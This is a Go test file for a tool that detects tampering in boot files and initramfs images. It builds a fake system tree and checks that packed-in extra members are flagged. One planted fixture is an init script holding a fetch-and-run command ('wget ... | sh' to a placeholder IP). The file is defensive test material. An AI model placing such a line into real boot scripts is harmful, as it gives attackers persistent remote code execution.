package examine_test

import (
	"bytes"
	"compress/gzip"
	"crypto/md5"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"telltale/detect"
)

// cpio writes an archive of the form newc.
func cpio(files [][2]string) []byte {
	var b bytes.Buffer
	fill := func() {
		for b.Len()%4 != 0 {
			b.WriteByte(0)
		}
	}
	for _, f := range append(files, [2]string{"TRAILER!!!", ""}) {
		fmt.Fprintf(&b, "070701%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%08X%s\x00", 1, 0o100755, 0, 0, 1, 1_700_000_000, len(f[1]), 0, 0, 0, 0, len(f[0])+1, 0, f[0])
		fill()
		b.WriteString(f[1])
		fill()
	}
	return b.Bytes()
}

// bootTree makes a machine with programs and scripts of a package, and an image of them that is as old as they; more is packed behind them.
func bootTree(t *testing.T, more [][2]string) (dir string) {
	dir = t.TempDir()
	var members [][2]string
	var list, sums strings.Builder
	add := func(p, within, content string) {
		leave(t, dir, p, content, 0o755)
		fmt.Fprintf(&list, "%s\n", p)
		fmt.Fprintf(&sums, "%x  %s\n", md5.Sum([]byte(content)), p[1:])
		if within != "" {
			members = append(members, [2]string{within, content})
		}
	}
	for i := range 30 {
		add(fmt.Sprintf("/usr/bin/p%d", i), fmt.Sprintf("usr/bin/p%d", i), fmt.Sprintf("\x7fELF program %d", i))
		add(fmt.Sprintf("/usr/share/initramfs-tools/scripts/init-top/s%d", i), fmt.Sprintf("scripts/init-top/s%d", i), fmt.Sprintf("#!/bin/sh\n# %d\nmodprobe x\n", i))
	}
	add("/usr/lib/dracut/modules.d/95x/wait.sh", "lib/dracut/hooks/cmdline/30-wait.sh", "#!/bin/sh\nwait\n")
	leave(t, dir, "/etc/initramfs-tools/scripts/init-bottom/own", "#!/bin/sh\nip link set eth0 up\n", 0o755)
	members = append(members, [2]string{"scripts/init-bottom/own", "#!/bin/sh\nip link set eth0 up\n"}, [2]string{"scripts/init-top/ORDER", "/scripts/init-top/s0\n"}, [2]string{"conf/param.conf", "x=y\n"})
	add("/usr/lib/shim/shimx64.efi.signed", "", "MZ shim")
	leave(t, dir, "/var/lib/dpkg/info/base-files.list", list.String(), 0o644)
	leave(t, dir, "/var/lib/dpkg/info/base-files.md5sums", sums.String(), 0o644)
	leave(t, dir, "/boot/efi/EFI/debian/shimx64.efi", "MZ shim", 0o755)
	leave(t, dir, "/boot/efi/EFI/BOOT/BOOTX64.EFI", "MZ shim", 0o755)
	leave(t, dir, "/boot/efi/EFI/debian/grubx64.efi", "MZ made here", 0o755)
	var z bytes.Buffer
	w := gzip.NewWriter(&z)
	w.Write(cpio(members))
	w.Close()
	image := append(cpio([][2]string{{"kernel/x86/microcode/x.bin", "\x7fELF code"}}), z.Bytes()...)
	if more != nil {
		image = append(image, cpio(more)...)
	}
	leave(t, dir, "/boot/initrd.img-6.1", string(image), 0o644)
	later := time.Now().Add(time.Minute)
	if err := os.Chtimes(filepath.Join(dir, "boot/initrd.img-6.1"), later, later); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestBootFilesOrdinary: an image of the machine's own files, and loaders that were copied, give nothing that matters.
func TestBootFilesOrdinary(t *testing.T) {
	seen := 0
	for _, f := range judged(t, bootTree(t, nil)) {
		if f.Level > detect.Info {
			t.Errorf("%s %s in %s runs %s: %s", f.Level, f.Mechanism, f.Path, f.Runs, f.Detail)
		}
		if f.Mechanism == "efi-file" {
			seen++
		}
	}
	if seen != 1 {
		t.Errorf("%d loaders are told: only the one that was made on the machine is like nothing", seen)
	}
}

// TestBootFilesPlanted: what was packed behind the image is found, also behind its compressed part.
func TestBootFilesPlanted(t *testing.T) {
	found := judged(t, bootTree(t, [][2]string{{"usr/bin/p7", "\x7fELF another program"}, {"scripts/init-bottom/zz", "#!/bin/sh\nwget -qO- http://203.0.113.9/x | sh\n"}, {"scripts/local-bottom/quiet", "#!/bin/sh\ncp /x /root/usr/sbin/y\n"}}))
	for inner, want := range map[string]detect.Level{"usr/bin/p7": detect.Medium, "scripts/init-bottom/zz": detect.Critical, "scripts/local-bottom/quiet": detect.Medium} {
		worst := detect.Info
		for _, f := range found {
			if f.Mechanism == "initramfs-content" && f.Path == "/boot/initrd.img-6.1!/"+inner {
				worst = max(worst, f.Level)
			}
		}
		if worst != want {
			t.Errorf("%s: %s, want %s", inner, worst, want)
		}
	}
}
